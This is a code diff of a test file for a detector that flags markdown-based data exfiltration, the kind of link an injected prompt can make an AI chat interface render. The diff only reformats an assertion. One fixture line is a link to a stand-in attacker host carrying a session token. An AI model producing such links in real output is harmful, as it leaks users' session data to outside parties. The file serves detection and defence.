@@ -13,7 +13,11 @@ describe('markdownExfiltrationDetector', () => {
     ['[click here](https://evil.example/?session=0123456789abcdef0123456789abcdef)'],
   ])('flags %j', (text) => {
     const [match] = detect(text);
-    expect(match).toMatchObject({ category: 'injection', type: 'markdown_exfiltration', start: text.indexOf(text.startsWith('<') ? '<' : text.startsWith('!') ? '!' : '[') });
+    expect(match).toMatchObject({
+      category: 'injection',
+      type: 'markdown_exfiltration',
+      start: text.indexOf(text.startsWith('<') ? '<' : text.startsWith('!') ? '!' : '['),
+    });
   });
 
   it.each([
